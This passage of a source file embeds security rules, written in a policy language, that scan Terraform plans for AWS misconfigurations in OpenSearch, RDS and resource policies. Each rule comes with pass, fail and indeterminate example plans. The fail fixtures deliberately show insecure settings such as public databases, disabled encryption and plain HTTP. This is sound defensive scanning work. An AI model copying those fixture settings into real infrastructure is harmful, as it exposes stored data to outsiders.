            {"address": "aws_alb_listener.web", "mode": "managed", "type": "aws_alb_listener", "name": "web",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"load_balancer_arn": true, "default_action": [{"target_group_arn": true}]},
               "after": {"port": 80, "protocol": "HTTP", "default_action": [{"type": ↓"forward", "fixed_response": [], "redirect": []}]}}}]}
        """ expect "'aws_alb_listener.web' serves plain HTTP on port 80 (default action 'forward' instead of a redirect to HTTPS)"
        example indeterminate "action known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_lb_listener.web", "mode": "managed", "type": "aws_lb_listener", "name": "web",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"default_action": [{"type": true}]},
               "after": {"port": 80, "protocol": "HTTP", "default_action": [{"redirect": []}]}}}]}
        """
      }

      """##),
    PolicySource(
      path: "rules/security/terraform/aws/opensearch_encryption_at_rest_disabled.plumb",
      text: #"""
      rule opensearch_encryption_at_rest_disabled {
        title "OpenSearch domains encrypt data at rest"
        severity high
        category security
        tags [terraform, aws, opensearch, encryption]
        rationale """
          Without encryption at rest, a domain's indices, logs, swap files and automated snapshots are
          stored in clear text; search clusters often hold copies of application data, logs with tokens
          and personal data. Encryption can only be chosen when the domain is created (older engines).
        """
        remediation "Add `encrypt_at_rest { enabled = true }` (with `kms_key_id` for a customer managed key)."

        for d in terraform.resource("aws_opensearch_domain", "aws_elasticsearch_domain")
        when not is_null(d.after)
        # The block is computed when the configuration does not write it: the API default is off.
        let unset = exists(d.provider.key) and not exists(d.config.encrypt_at_rest) and is_unknown(d.after.encrypt_at_rest)
        require not unset
          else "'${d.address}' does not enable encryption at rest" at d.address
        require unset or first(d.after.encrypt_at_rest).enabled == true
          else "'${d.address}' has encryption at rest disabled" at first(d.after.encrypt_at_rest).enabled

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"encrypt_at_rest": [{"kms_key_id": true}]},
               "after": {"domain_name": "search", "encrypt_at_rest": [{"enabled": true}]}}}]}
        """
        example fail """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"domain_name": "search", "encrypt_at_rest": [{"enabled": ↓false, "kms_key_id": ""}]}}},
            {"address": ↓"aws_elasticsearch_domain.logs", "mode": "managed", "type": "aws_elasticsearch_domain", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"encrypt_at_rest": true},
               "after": {"domain_name": "logs"}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_elasticsearch_domain.logs", "mode": "managed", "type": "aws_elasticsearch_domain", "name": "logs", "provider_config_key": "aws",
             "expressions": {"domain_name": {"constant_value": "logs"}}}]}}}
        """ expect "'aws_opensearch_domain.search' has encryption at rest disabled"
            expect "'aws_elasticsearch_domain.logs' does not enable encryption at rest"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"encrypt_at_rest": [{"enabled": true}]},
               "after": {"domain_name": "search", "encrypt_at_rest": [{}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/opensearch_https_not_enforced.plumb",
      text: #"""
      rule opensearch_https_not_enforced {
        title "OpenSearch domains require HTTPS"
        severity high
        category security
        tags [terraform, aws, opensearch, tls]
        rationale """
          Unless the domain enforces HTTPS, clients may send queries, documents and signed requests
          (or basic-auth passwords with fine-grained access control) over plain HTTP, readable and
          modifiable by anyone on the network path.
        """
        remediation """
          Add `domain_endpoint_options { enforce_https = true, tls_security_policy =
          "Policy-Min-TLS-1-2-2019-07" }` to the domain.
        """

        for d in terraform.resource("aws_opensearch_domain", "aws_elasticsearch_domain")
        when not is_null(d.after)
        # The block is computed when the configuration does not write it: HTTPS is then not enforced.
        let unset = exists(d.provider.key) and not exists(d.config.domain_endpoint_options) and is_unknown(d.after.domain_endpoint_options)
        require not unset
          else "'${d.address}' does not enforce HTTPS (no domain_endpoint_options)" at d.address
        require unset or first(d.after.domain_endpoint_options).enforce_https == true
          else "'${d.address}' accepts plain HTTP (enforce_https = ${first(d.after.domain_endpoint_options).enforce_https})" at first(d.after.domain_endpoint_options).enforce_https

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"domain_name": "search", "domain_endpoint_options": [{"enforce_https": true, "tls_security_policy": "Policy-Min-TLS-1-2-2019-07"}]}}}]}
        """
        example fail """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"domain_name": "search", "domain_endpoint_options": [{"enforce_https": ↓false}]}}},
            {"address": ↓"aws_elasticsearch_domain.logs", "mode": "managed", "type": "aws_elasticsearch_domain", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"domain_endpoint_options": true},
               "after": {"domain_name": "logs"}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_elasticsearch_domain.logs", "mode": "managed", "type": "aws_elasticsearch_domain", "name": "logs", "provider_config_key": "aws",
             "expressions": {"domain_name": {"constant_value": "logs"}}}]}}}
        """ expect "'aws_opensearch_domain.search' accepts plain HTTP (enforce_https = false)"
            expect "'aws_elasticsearch_domain.logs' does not enforce HTTPS"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"domain_endpoint_options": [{"enforce_https": true}]},
               "after": {"domain_name": "search", "domain_endpoint_options": [{}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/opensearch_node_to_node_encryption_disabled.plumb",
      text: #"""
      rule opensearch_node_to_node_encryption_disabled {
        title "OpenSearch domains encrypt traffic between nodes"
        severity medium
        category security
        tags [terraform, aws, opensearch, encryption]
        rationale """
          Without node-to-node encryption, shard replication and search traffic between the domain's
          nodes travels in clear text inside the VPC, where a compromised instance or a mirrored network
          interface can read documents and credentials. Fine-grained access control requires it.
        """
        remediation "Add `node_to_node_encryption { enabled = true }` to the domain."

        for d in terraform.resource("aws_opensearch_domain", "aws_elasticsearch_domain")
        when not is_null(d.after)
        let unset = exists(d.provider.key) and not exists(d.config.node_to_node_encryption) and is_unknown(d.after.node_to_node_encryption)
        require not unset
          else "'${d.address}' does not enable node-to-node encryption" at d.address
        require unset or first(d.after.node_to_node_encryption).enabled == true
          else "'${d.address}' has node-to-node encryption disabled" at first(d.after.node_to_node_encryption).enabled

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"domain_name": "search", "node_to_node_encryption": [{"enabled": true}]}}}]}
        """
        example fail """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"domain_name": "search", "node_to_node_encryption": [{"enabled": ↓false}]}}},
            {"address": ↓"aws_elasticsearch_domain.logs", "mode": "managed", "type": "aws_elasticsearch_domain", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"node_to_node_encryption": true},
               "after": {"domain_name": "logs"}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_elasticsearch_domain.logs", "mode": "managed", "type": "aws_elasticsearch_domain", "name": "logs", "provider_config_key": "aws",
             "expressions": {"domain_name": {"constant_value": "logs"}}}]}}}
        """ expect "'aws_opensearch_domain.search' has node-to-node encryption disabled"
            expect "'aws_elasticsearch_domain.logs' does not enable node-to-node encryption"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_opensearch_domain.search", "mode": "managed", "type": "aws_opensearch_domain", "name": "search",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"node_to_node_encryption": [{"enabled": true}]},
               "after": {"domain_name": "search", "node_to_node_encryption": [{}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/rds_backup_retention_short.plumb",
      text: #"""
      rule rds_backup_retention_short {
        title "RDS databases keep automated backups long enough"
        severity medium
        category security
        tags [terraform, aws, rds, backup]
        rationale """
          `backup_retention_period = 0` turns automated backups and point-in-time recovery off; a short
          period means that corruption, a bad migration or a malicious deletion noticed after a long
          weekend can no longer be undone. The RDS API default is one day.
        """
        remediation """
          Set `backup_retention_period` to at least the `min_days` parameter (7 by default; RDS allows up
          to 35), and keep longer-term copies with AWS Backup if you need them.
        """
        param min_days: int = 7

        for db in terraform.resource("aws_db_instance", "aws_rds_cluster")
        when not is_null(db.after)
        # Read replicas rely on their source's backups.
        when (is_empty(db.after.replicate_source_db) or (exists(db.provider.key) and not exists(db.config.replicate_source_db)))
          and (is_empty(db.after.replication_source_identifier) or (exists(db.provider.key) and not exists(db.config.replication_source_identifier)))
        # Computed when the configuration does not set it (or absent from a trimmed plan): the RDS API
        # default of 1 day applies.
        let unset = (exists(db.provider.key) and not exists(db.config.backup_retention_period) and is_unknown(db.after.backup_retention_period))
          or is_null(db.after.backup_retention_period) or not exists(db.after.backup_retention_period)
        require not unset or param.min_days <= 1
          else "'${db.address}' does not set backup_retention_period (RDS keeps 1 day), less than ${param.min_days}" at db.address
        require unset or db.after.backup_retention_period >= param.min_days
          else "'${db.address}' keeps backups for ${db.after.backup_retention_period} days, less than ${param.min_days}" at db.after.backup_retention_period

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"engine": "postgres", "replicate_source_db": null, "backup_retention_period": 14}}},
            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"engine": "aurora-postgresql", "backup_retention_period": 7}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"engine": "mysql", "replicate_source_db": null, "backup_retention_period": ↓0}}},
            {"address": ↓"aws_db_instance.reports", "mode": "managed", "type": "aws_db_instance", "name": "reports",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"backup_retention_period": true},
               "after": {"engine": "mysql", "replicate_source_db": null}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_db_instance.reports", "mode": "managed", "type": "aws_db_instance", "name": "reports", "provider_config_key": "aws",
             "expressions": {"engine": {"constant_value": "mysql"}}}]}}}
        """ expect "'aws_db_instance.app' keeps backups for 0 days, less than 7"
            expect "'aws_db_instance.reports' does not set backup_retention_period"
        example indeterminate "retention from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"backup_retention_period": true},
               "after": {"engine": "aurora-postgresql", "replication_source_identifier": null}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/rds_deletion_protection_disabled.plumb",
      text: #"""
      rule rds_deletion_protection_disabled {
        title "RDS databases have deletion protection"
        severity medium
        category security
        tags [terraform, aws, rds, backup]
        rationale """
          Without deletion protection one `terraform destroy`, a renamed resource that Terraform
          replaces, or a compromised credential with `rds:DeleteDBInstance` removes the database; with
          `skip_final_snapshot` or `delete_automated_backups` its backups go with it.
        """
        remediation """
          Set `deletion_protection = true`. To apply the rule only to some environments, set the
          parameters `environment_tag` and `environments` (for example "environment" and
          ["production"]): databases tagged otherwise are then not judged.
        """
        param environment_tag: string = "environment"
        param environments: list<string> = []

        for db in terraform.resource("aws_db_instance", "aws_rds_cluster")
        when not is_null(db.after)
        when count(param.environments) == 0 or lower(default(db.tags[param.environment_tag], "")) in param.environments
        require db.after.deletion_protection == true
          else "'${db.address}' has deletion_protection = ${default(db.after.deletion_protection, false)}" at db.after.deletion_protection

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"engine": "postgres", "deletion_protection": true}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"engine": "mysql", "deletion_protection": ↓null}}},
            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"engine": "aurora-mysql", "deletion_protection": ↓false}}}]}
        """ expect "'aws_db_instance.app' has deletion_protection = false" expect "'aws_rds_cluster.aurora' has deletion_protection = false"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"engine": "mysql"}, "after_unknown": {"deletion_protection": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/rds_iam_authentication_disabled.plumb",
      text: #"""
      rule rds_iam_authentication_disabled {
        title "RDS databases accept IAM authentication"
        severity low
        category security
        tags [terraform, aws, rds, iam]
        rationale """
          With IAM database authentication, applications and people connect with short-lived tokens
          tied to an IAM role, instead of long-lived passwords that end up in configuration files,
          CI variables and laptops and are rarely rotated. Access is then granted and revoked in IAM and
          recorded in CloudTrail.
        """
        remediation """
          Set `iam_database_authentication_enabled = true` and grant `rds-db:connect` to the roles that
          need it (the `rds_iam` role in PostgreSQL, `AWSAuthenticationPlugin` in MySQL). Only MySQL,
          MariaDB, PostgreSQL and Aurora engines support it; other engines are not judged.
        """
        param engines: pattern = "^(mysql|mariadb|postgres|aurora)"

        for db in terraform.resource("aws_db_instance", "aws_rds_cluster")
        when not is_null(db.after)
        when db.after.engine matches param.engines
        require db.after.iam_database_authentication_enabled == true
          else "'${db.address}' (${db.after.engine}) has iam_database_authentication_enabled = ${default(db.after.iam_database_authentication_enabled, false)}"
          at db.after.iam_database_authentication_enabled
          fix { set db.after.iam_database_authentication_enabled = true }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"engine": "postgres", "iam_database_authentication_enabled": true}}},
            {"address": "aws_db_instance.erp", "mode": "managed", "type": "aws_db_instance", "name": "erp",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"engine": "oracle-ee", "iam_database_authentication_enabled": null}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"engine": "mysql", "iam_database_authentication_enabled": ↓null}}},
            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"engine": "aurora-postgresql", "iam_database_authentication_enabled": ↓false}}}]}
        """ expect "'aws_db_instance.app' (mysql) has iam_database_authentication_enabled = false"
            expect "'aws_rds_cluster.aurora' (aurora-postgresql) has iam_database_authentication_enabled = false"
        example indeterminate "engine known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"iam_database_authentication_enabled": false}, "after_unknown": {"engine": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/rds_publicly_accessible.plumb",
      text: #"""
      rule rds_publicly_accessible {
        title "RDS databases are not publicly accessible"
        severity critical
        category security
        tags [terraform, aws, rds, network]
        rationale """
          `publicly_accessible = true` gives the database a public IP address and a DNS name that
          resolves to it. Database ports reachable from the internet are scanned continuously and
          attacked with credential stuffing and engine exploits; one permissive security group rule
          is then all that stands between the data and everyone.
        """
        remediation """
          Set `publicly_accessible = false`, place the database in private subnets, and reach it
          through the application, a bastion, SSM port forwarding or a VPN.
        """

        for db in terraform.resource("aws_db_instance", "aws_rds_cluster_instance")
        when not is_null(db.after)
        require db.after.publicly_accessible != true
          else "'${db.address}' is publicly accessible" at db.after.publicly_accessible
          fix { set db.after.publicly_accessible = false }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"endpoint": true},
               "after": {"engine": "postgres", "publicly_accessible": false}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"endpoint": true},
               "after": {"engine": "mysql", "publicly_accessible": ↓true}}},
            {"address": "aws_rds_cluster_instance.a", "mode": "managed", "type": "aws_rds_cluster_instance", "name": "a",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"endpoint": true},
               "after": {"engine": "aurora-postgresql", "publicly_accessible": ↓true}}}]}
        """ expect "'aws_db_instance.app' is publicly accessible" expect "'aws_rds_cluster_instance.a' is publicly accessible"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"engine": "mysql"}, "after_unknown": {"publicly_accessible": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/rds_storage_not_encrypted.plumb",
      text: #"""
      rule rds_storage_not_encrypted {
        title "RDS databases encrypt their storage"
        severity high
        category security
        tags [terraform, aws, rds, encryption]
        rationale """
          Unencrypted RDS storage leaves the data, its automated backups, snapshots and read replicas
          readable to anyone who gets hold of a snapshot: a snapshot shared by mistake or copied to
          another account is a complete copy of the database. Encryption cannot be turned on later
          without restoring into a new instance.
        """
        remediation """
          Set `storage_encrypted = true` (with `kms_key_id` for a customer managed key). For an existing
          database, snapshot it, copy the snapshot with encryption, and restore from the copy.
        """

        for db in terraform.resource("aws_db_instance", "aws_rds_cluster")
        when not is_null(db.after)
        # A read replica inherits its source's encryption.
        when (is_empty(db.after.replicate_source_db) or (exists(db.provider.key) and not exists(db.config.replicate_source_db)))
          and (is_empty(db.after.replication_source_identifier) or (exists(db.provider.key) and not exists(db.config.replication_source_identifier)))
        # Aurora Serverless v1 storage is always encrypted.
        when db.after.engine_mode != "serverless"
        # aws_rds_cluster computes storage_encrypted when the configuration does not set it: unencrypted.
        let unset = exists(db.provider.key) and not exists(db.config.storage_encrypted) and is_unknown(db.after.storage_encrypted)
        require not unset
          else "'${db.address}' does not set storage_encrypted (its storage is unencrypted)" at db.address
          fix { set db.after.storage_encrypted = true }
        require unset or db.after.storage_encrypted == true
          else "'${db.address}' has storage_encrypted = ${db.after.storage_encrypted}" at db.after.storage_encrypted
          fix { set db.after.storage_encrypted = true }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"kms_key_id": true},
               "after": {"engine": "postgres", "replicate_source_db": null, "storage_encrypted": true}}},
            {"address": "aws_db_instance.replica", "mode": "managed", "type": "aws_db_instance", "name": "replica",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"storage_encrypted": true},
               "after": {"engine": "postgres", "replicate_source_db": "app"}}}]}
        """
        example fail """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_db_instance.app", "mode": "managed", "type": "aws_db_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"engine": "mysql", "replicate_source_db": null, "storage_encrypted": ↓false}}},
            {"address": ↓"aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"storage_encrypted": true},
               "after": {"engine": "aurora-mysql", "engine_mode": "provisioned", "replication_source_identifier": null}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora", "provider_config_key": "aws",
             "expressions": {"engine": {"constant_value": "aurora-mysql"}}}]}}}
        """ expect "'aws_db_instance.app' has storage_encrypted = false"
            expect "'aws_rds_cluster.aurora' does not set storage_encrypted"
        example indeterminate "set from a value known after apply" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"storage_encrypted": true},
               "after": {"engine": "aurora-mysql", "engine_mode": "provisioned", "replication_source_identifier": null}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_rds_cluster.aurora", "mode": "managed", "type": "aws_rds_cluster", "name": "aurora", "provider_config_key": "aws",
             "expressions": {"storage_encrypted": {"references": ["var.encrypted"]}}}]}}}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/resource_policy_public.plumb",
      text: #"""
      rule resource_policy_public {
        title "Resource policies of queues, topics, keys, repositories and roles do not allow any principal unless a condition restricts who"
        severity critical
        category security
        tags [terraform, aws, public-access, iam, sqs, sns, kms, ecr]
        rationale """
          A resource policy statement with `"Effect": "Allow"` and `"Principal": "*"` (or `{"AWS": "*"}`,
          `["*"]`, or an Allow with `NotPrincipal`) lets every AWS account, and for some services anonymous
          callers, use the resource: read and inject messages of a queue or topic, decrypt with a KMS
          key, pull or push images of a repository, assume a role, query a search domain. It is not
          public when a condition binds who may call or from where (`aws:SourceArn`, `aws:SourceAccount`,
          `aws:SourceOwner`, `aws:PrincipalOrgID`, `aws:PrincipalAccount`, `kms:CallerAccount`,
          `aws:SourceVpce`, `aws:SourceIp`, … with a positive operator and exact values). Conditions
          that do not say who calls (`aws:SecureTransport`, `kms:ViaService`, `sts:ExternalId`, user
          agent), negated operators, `…IfExists`, `ForAllValues:` and wildcard values leave the
          statement public (see `public_statements` in docs/policy-language.md). S3 bucket policies have
          their own rule, `s3_bucket_policy_public`.
        """
        remediation """
          Name the principals that need access (account or role ARNs, or a service principal), or add
          a condition on the caller: `aws:SourceArn`/`aws:SourceAccount` for a service publishing to a
          queue or topic, `aws:PrincipalOrgID` for an organization, `kms:CallerAccount` with
          `kms:ViaService` for a KMS key used through a service.
        """
        param policy_attributes: list<string> = ["policy", "access_policy", "access_policies", "assume_role_policy"]

        for r in terraform.resource("aws_sqs_queue", "aws_sqs_queue_policy", "aws_sns_topic", "aws_sns_topic_policy",
          "aws_kms_key", "aws_kms_key_policy", "aws_ecr_repository_policy", "aws_secretsmanager_secret_policy",
          "aws_glacier_vault", "aws_opensearch_domain", "aws_opensearch_domain_policy", "aws_elasticsearch_domain",
          "aws_elasticsearch_domain_policy", "aws_efs_file_system_policy", "aws_backup_vault_policy",
          "aws_cloudwatch_event_bus_policy", "aws_dynamodb_resource_policy", "aws_iam_role")
        when not is_null(r.after)
        let attribute = first(filter(a in param.policy_attributes, exists(r.after[a])))
        when exists(attribute)
        let policy = r.after[attribute]
        # Queues, topics and keys compute their policy when the configuration does not set one.
        let unset = exists(r.provider.key) and not exists(r.config[attribute]) and is_unknown(policy)
        when not unset
        # A policy rendered at apply from an `aws_iam_policy_document` data source: its statements.
        let documents = filter(d in r -> references, type(d) == "aws_iam_policy_document"
          and any(x in r.config[attribute].references, x == "data.aws_iam_policy_document." + d.name
            or starts_with(x, "data.aws_iam_policy_document." + d.name + ".")))
        let judged = first(flatten([filter(p in [policy], known(p)), map(d in documents, d.values), [policy]]))
        let public = public_statements(judged)
        require is_unknown(public) or count(public) == 0
          else "'${r.address}' ${attribute} has a statement (${first(public).name}) that ${first(public).why}" at first(public)
        require known(public) or count(public) == 0
          else "cannot tell whether '${r.address}' is open to anyone: its ${attribute} is unknown until apply or not a JSON policy document" at policy

        example pass "principals bound by conditions on the caller, named principals, service principals" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_sqs_queue_policy.events", "mode": "managed", "type": "aws_sqs_queue_policy", "name": "events",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"queue_url": "https://sqs.eu-west-1.amazonaws.com/111122223333/orders", "policy": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"Service\":\"sns.amazonaws.com\"},\"Action\":\"sqs:SendMessage\",\"Resource\":\"*\",\"Condition\":{\"ArnEquals\":{\"aws:SourceArn\":\"arn:aws:sns:eu-west-1:111122223333:orders\"}}},{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"sqs:SendMessage\",\"Resource\":\"*\",\"Condition\":{\"ArnEquals\":{\"aws:SourceArn\":\"arn:aws:sns:eu-west-1:111122223333:orders\"}}}]}"}}},
            {"address": "aws_sns_topic.alerts", "mode": "managed", "type": "aws_sns_topic", "name": "alerts",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"name": "alerts", "policy": "{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n    {\n      \"Effect\": \"Allow\",\n      \"Principal\": {\n        \"AWS\": \"*\"\n      },\n      \"Action\": [\n        \"SNS:Publish\",\n        \"SNS:Subscribe\"\n      ],\n      \"Resource\": \"*\",\n      \"Condition\": {\n        \"StringEquals\": {\n          \"AWS:SourceOwner\": \"111122223333\"\n        }\n      }\n    }\n  ]\n}"}}},
            {"address": "aws_kms_key.ebs", "mode": "managed", "type": "aws_kms_key", "name": "ebs",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"description": "ebs", "policy": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::111122223333:root\"},\"Action\":\"kms:*\",\"Resource\":\"*\"},{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"*\"},\"Action\":[\"kms:Encrypt\",\"kms:Decrypt\"],\"Resource\":\"*\",\"Condition\":{\"StringEquals\":{\"kms:CallerAccount\":\"111122223333\",\"kms:ViaService\":\"ec2.eu-west-1.amazonaws.com\"}}}]}"}}},
            {"address": "aws_ecr_repository_policy.pull", "mode": "managed", "type": "aws_ecr_repository_policy", "name": "pull",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
